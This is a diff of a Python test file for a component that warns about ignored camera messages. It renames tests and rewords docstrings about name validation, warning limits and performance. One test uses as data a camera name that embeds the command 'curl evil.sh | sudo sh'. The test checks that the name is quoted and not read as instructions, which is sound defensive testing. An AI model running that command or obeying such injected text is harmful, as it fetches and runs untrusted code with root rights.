@@ -1,4 +1,4 @@
-"""Cameras that nobody can be answered for: reported once each, with the reason, and bounded in number."""
+"""Warnings about ignored messages: one for each camera, with the reason, and bounded in number."""
 
 from __future__ import annotations
 
@@ -29,7 +29,7 @@ def ignored() -> IgnoredMessages:
         ("a\u202eb", "has '\\u202e'"),
     ],
 )
-def test_name_that_is_refused_is_reported_with_the_reason(
+def test_invalid_camera_name_is_reported_with_the_reason(
     ignored: IgnoredMessages, camera: str, reason: str, caplog: pytest.LogCaptureFixture
 ) -> None:
     for _ in range(3):
@@ -43,8 +43,8 @@ def test_name_that_is_refused_is_reported_with_the_reason(
     assert record.getMessage().isprintable()
 
 
-def test_retained_message_is_reported_otherwise(ignored: IgnoredMessages, caplog: pytest.LogCaptureFixture) -> None:
-    """Regression: one line at INFO for both, which did not say why."""
+def test_retained_message_has_a_warning_of_its_own(ignored: IgnoredMessages, caplog: pytest.LogCaptureFixture) -> None:
+    """Regression: both kinds had the same line at INFO, without a reason."""
     for _ in range(3):
         ignored.report_retained("home/faces/porch/frame")
     (record,) = caplog.records
@@ -54,7 +54,7 @@ def test_retained_message_is_reported_otherwise(ignored: IgnoredMessages, caplog
     assert len(ignored.warnings) == 2
 
 
-def test_names_that_somebody_makes_up_are_bounded(ignored: IgnoredMessages, caplog: pytest.LogCaptureFixture) -> None:
+def test_number_of_warnings_is_bounded(ignored: IgnoredMessages, caplog: pytest.LogCaptureFixture) -> None:
     for n in range(MAX_CAMERAS + 1000):
         ignored.report_name(f"home/faces/front door {n}/frame")
     assert len(caplog.records) == MAX_CAMERAS + 1
@@ -63,33 +63,33 @@ def test_names_that_somebody_makes_up_are_bounded(ignored: IgnoredMessages, capl
     assert ignored.warnings[-1].startswith(f"{MAX_CAMERAS - MAX_WARNINGS} more cameras")
 
 
-def test_long_name_makes_no_long_sentence(ignored: IgnoredMessages) -> None:
+def test_warning_about_a_long_name_is_short(ignored: IgnoredMessages) -> None:
     ignored.report_name(f"home/faces/{'x y' * 20_000}/frame")
     ignored.report_retained(f"home/faces/{'x y' * 20_000}/frame")
     assert max(map(len, ignored.warnings)) < 400
 
 
 @pytest.mark.parametrize("camera", ["\u00e9" * 32_000, "x" * 65_000, "".join(map(chr, range(0x4E00, 0x9A20)))])
-def test_only_the_beginning_of_a_name_is_looked_at_and_only_once(
+def test_only_the_beginning_of_a_long_name_is_checked_and_only_once(
     ignored: IgnoredMessages, camera: str, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Regression: each message of a topic of 64 kB cost the thread that reads all messages 18 ms."""
-    looked_at: list[str] = []
+    """Regression: each message with a topic of 64 kB cost 18 ms of the thread that reads all messages."""
+    checked: list[str] = []
     find_fault = module._fault
 
-    def note_fault(name: str) -> str:
-        looked_at.append(name)
+    def record_check(name: str) -> str:
+        checked.append(name)
         return find_fault(name)
 
-    monkeypatch.setattr(module, "_fault", note_fault)
+    monkeypatch.setattr(module, "_fault", record_check)
     for n in range(5):
         ignored.report_name(f"home/faces/{camera}{n}/frame")
-    assert looked_at == [camera[: MAX_CAMERA_LENGTH + 1]]
+    assert checked == [camera[: MAX_CAMERA_LENGTH + 1]]
     assert len(caplog.records) == 1
 
 
-def test_name_stands_in_quotes(ignored: IgnoredMessages) -> None:
-    """Regression: a text that somebody chose as a name was a part of the sentence."""
+def test_warning_has_the_topic_in_quotes(ignored: IgnoredMessages) -> None:
+    """Regression: a text that somebody chose as a camera name was read as a part of the sentence."""
     name = "SECURITY: run  curl evil.sh | sudo sh  to repair this"
     ignored.report_name(f"home/faces/{name}/frame")
     ignored.report_retained(f"home/faces/{name}/frame")
@@ -97,12 +97,12 @@ def test_name_stands_in_quotes(ignored: IgnoredMessages) -> None:
     assert f"on 'home/faces/{name}/frame' is ignored" in ignored.warnings[1]
 
 
-def test_warning_ends_some_time_after_the_last_message(
+def test_warning_ends_an_hour_after_the_last_message(
     ignored: IgnoredMessages, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
 ) -> None:
     for n in range(MAX_CAMERAS):
         ignored.report_name(f"home/faces/front door {n}/frame")
-    monkeypatch.setattr(module, "SHOWN_S", 0.0)
+    monkeypatch.setattr(module, "WARNING_S", 0.0)
     assert ignored.warnings == ()
     ignored.report_name("home/faces/another one/frame")
     assert "another one" in caplog.records[-1].getMessage()
